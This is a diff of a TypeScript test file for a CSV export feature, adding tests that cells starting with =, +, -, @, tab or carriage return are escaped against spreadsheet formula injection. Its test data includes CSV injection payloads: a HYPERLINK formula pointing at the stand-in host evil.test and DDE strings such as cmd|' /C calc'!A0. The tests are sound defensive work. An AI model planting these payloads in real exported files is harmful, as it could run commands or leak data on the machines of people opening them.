@@ -1,8 +1,9 @@
 // `?format=csv` on every list, through HTTP: every matching row (the JSON list's `count`), the same
 // filters, search and ordering, a dealer's own rows only, Russian titles, chosen columns, a BOM.
+import { Type } from 'typebox';
 import { areas } from '../areas';
 import { call, createTestApp, testDatabases, tokensFor, type TestApp } from '../test/test-app';
-import { COLUMN_TITLES } from './csv';
+import { cellText, COLUMN_TITLES, escapeCell, type CsvColumn } from './csv';
 
 /** RFC 4180 with `;` between values: quoted values may hold `;`, quotes (doubled) and line breaks. */
 function parseCsv(text: string): string[][] {
@@ -96,11 +97,11 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     expect(users.rows[1]).toEqual(['admin@demo.test', 'да']);
   });
 
-  test('a text that Excel would run as a formula is written as text; a phone number is left as it is', async () => {
+  test('a text that Excel would run as a formula is written as text, a phone number too (OWASP: no exceptions by look)', async () => {
     const created = await call(t.app, 'POST', '/api/variable/create/', { token: token['admin@demo.test'], body: { key: 'csv_formula', value: '=HYPERLINK("http://evil.test","x")', description: '+7 900 000-00-00' } });
     expect(created.status).toBe(201);
     const answer = await csv('/api/variables/?format=csv&fields=key,value,description&search=csv_formula', 'admin@demo.test');
-    expect(answer.rows[1]).toEqual(['csv_formula', '\'=HYPERLINK("http://evil.test","x")', '+7 900 000-00-00']);
+    expect(answer.rows[1]).toEqual(['csv_formula', '\'=HYPERLINK("http://evil.test","x")', '\'+7 900 000-00-00']);
   });
 
   test('?fields picks and orders the columns; an unknown or inherited name is a 400 naming it', async () => {
@@ -135,5 +136,42 @@ describe.each(testDatabases())('CSV export of every list on %s', (kind) => {
     const answer = await csv('/api/newsletters/?search=Пакет&ordering=title&format=csv&fields=id,title', 'manager@demo.test');
     expect(answer.rows.length - 1).toBe(1_150);
     expect(answer.rows.slice(1)).toEqual(pages.map((n: { id: number; title: string }) => [String(n.id), n.title]));
+  });
+});
+
+describe('escaping a cell against formulas (OWASP), whatever the value', () => {
+  const column = (schema = Type.String()): CsvColumn => ({ field: 'x', title: 'x', schema });
+  const dangerous = ['=HYPERLINK("http://evil.test?"&CHAR(104),"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1', '-5', '+7 900 000-00-00'];
+
+  test.each(dangerous)('%j as a plain value', (text) => {
+    expect(escapeCell(text)).toBe(`'${text}`);
+    expect(cellText(text, column())).toBe(`'${text}`);
+  });
+
+  test('safe text is left alone, an escaped one is not escaped twice by its own quote', () => {
+    for (const text of ['ООО Ромашка', '12.50', '', ' =1', "'=1", 'a=b']) expect(escapeCell(text)).toBe(text);
+  });
+
+  test('nested values: file names, documents, same_tax_id, order lines, any object are escaped', () => {
+    // A document (an object with a name), as orders, deletion requests and shipments give it.
+    expect(cellText({ id: 1, name: '=HYPERLINK("http://evil.test","x")', url: '/x' }, column(Type.Unknown()))).toBe('\'=HYPERLINK("http://evil.test","x")');
+    // A claim's files: every name escaped where it stands, and the cell as a whole.
+    const files = [{ name: '-2+3+cmd' }, { name: 'ok.pdf' }, { name: '@evil' }];
+    expect(cellText(files, column(Type.Unknown()))).toBe("'-2+3+cmd; ok.pdf; '@evil");
+    // same_tax_id of a registration request: a visitor's company name.
+    expect(cellText([{ kind: 'request', id: 3, name: '+cmd' }], column(Type.Unknown()))).toBe("'+cmd");
+    // An order line whose SKU begins with a sign; a user by an address; an object with no known shape.
+    expect(cellText([{ sku: '-SKU', quantity: 2 }], column(Type.Unknown()))).toBe("'-SKU × 2");
+    expect(cellText({ email: '=x@evil.test' }, column(Type.Unknown()))).toBe("'=x@evil.test");
+    expect(cellText({ a: 1 }, column(Type.Unknown()))).toBe('{"a":1}');
+    // A status history whose `from` is missing starts with the date: nothing to escape.
+    expect(cellText([{ to: 'new', when: '2026-01-01T00:00:00Z' }], column(Type.Unknown()))).toBe('2026-01-01 00:00:00 new');
+  });
+
+  test('numbers and booleans: a negative number is escaped like any text that starts with a sign', () => {
+    expect(cellText(-5, column(Type.Integer()))).toBe("'-5");
+    expect(cellText(12, column(Type.Integer()))).toBe('12');
+    expect(cellText(true, column(Type.Boolean()))).toBe('да');
+    expect(cellText(null, column())).toBe('');
   });
 });
